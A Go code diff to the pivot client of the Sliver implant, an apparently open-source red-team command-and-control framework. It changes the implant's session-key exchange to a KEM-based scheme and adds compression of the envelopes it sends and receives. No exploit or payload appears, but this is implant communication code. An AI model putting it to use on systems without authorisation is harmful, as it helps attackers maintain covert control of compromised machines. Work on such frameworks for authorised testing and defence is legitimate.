@@ -31,6 +31,7 @@ import (
 	"log"
 	// {{end}}
 
+	"github.com/bishopfox/sliver/implant/sliver/compression"
 	consts "github.com/bishopfox/sliver/implant/sliver/constants"
 	"github.com/bishopfox/sliver/implant/sliver/cryptography"
 	"github.com/bishopfox/sliver/implant/sliver/pivots"
@@ -115,11 +116,11 @@ func (p *NetConnPivotClient) peerKeyExchange() error {
 
 func (p *NetConnPivotClient) serverKeyExchange() error {
 	serverSessionKey := cryptography.RandomSymmetricKey()
-	p.serverCipherCtx = cryptography.NewCipherContext(serverSessionKey)
-	ciphertext, err := cryptography.AgeKeyExToServer(serverSessionKey[:])
+	ciphertext, kemSharedKey, err := cryptography.KeyExToServer(serverSessionKey[:])
 	if err != nil {
 		return err
 	}
+	p.serverCipherCtx = cryptography.NewCipherContext(cryptography.SessionKey(serverSessionKey, kemSharedKey))
 	pivotServerKeyExchangeData, _ := proto.Marshal(&pb.PivotServerKeyExchange{
 		OriginID:   pivots.MyPeerID,
 		SessionKey: ciphertext,
@@ -268,6 +269,10 @@ func (p *NetConnPivotClient) lengthOf(message []byte) []byte {
 
 // WriteEnvelope - Write a complete envelope
 func (p *NetConnPivotClient) WriteEnvelope(envelope *pb.Envelope) error {
+	// Only our own envelopes are compressed, the server decompresses them after unwrapping
+	if envelope.Type != pb.MsgPivotPeerPing && envelope.Type != pb.MsgPivotPeerEnvelope {
+		envelope = compression.Compress(envelope)
+	}
 	plaintext, err := proto.Marshal(envelope)
 	if err != nil {
 		// {{if .Config.Debug}}
@@ -385,6 +390,10 @@ func (p *NetConnPivotClient) ReadEnvelope() (*pb.Envelope, error) {
 	}
 	envelope := &pb.Envelope{}
 	err = proto.Unmarshal(plaintext, envelope)
+	if err != nil {
+		return nil, err
+	}
+	err = compression.Decompress(envelope)
 	return envelope, err
 }
 